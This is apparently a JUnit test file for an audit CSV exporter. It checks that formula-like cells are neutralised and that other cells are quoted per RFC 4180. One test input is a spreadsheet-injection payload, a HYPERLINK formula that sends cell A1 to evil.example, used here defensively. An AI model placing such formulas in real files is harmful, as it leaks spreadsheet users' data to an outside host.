package com.contractledger.query.audit;

import org.junit.jupiter.api.Test;

import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

class AuditExportCsvTest {

    @Test
    void cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
        assertThat(AuditExport.csvLine(Stream.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "=1+2",
                "+1", "-1", "@SUM(A1)", "\tx", "\rx")))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",\"'=1+2\",\"'+1\","
                        + "\"'-1\",\"'@SUM(A1)\",\"'\tx\",\"'\rx\"\r\n");
    }

    @Test
    void other_cells_follow_rfc_4180() {
        assertThat(AuditExport.csvLine(Stream.of("plain", "a,b", "say \"hi\"", "two\nlines", "", "1+1=2")))
                .isEqualTo("plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",,1+1=2\r\n");
        assertThat(AuditExport.csvLine(Stream.of((String) null, "x"))).isEqualTo(",x\r\n");
    }
}
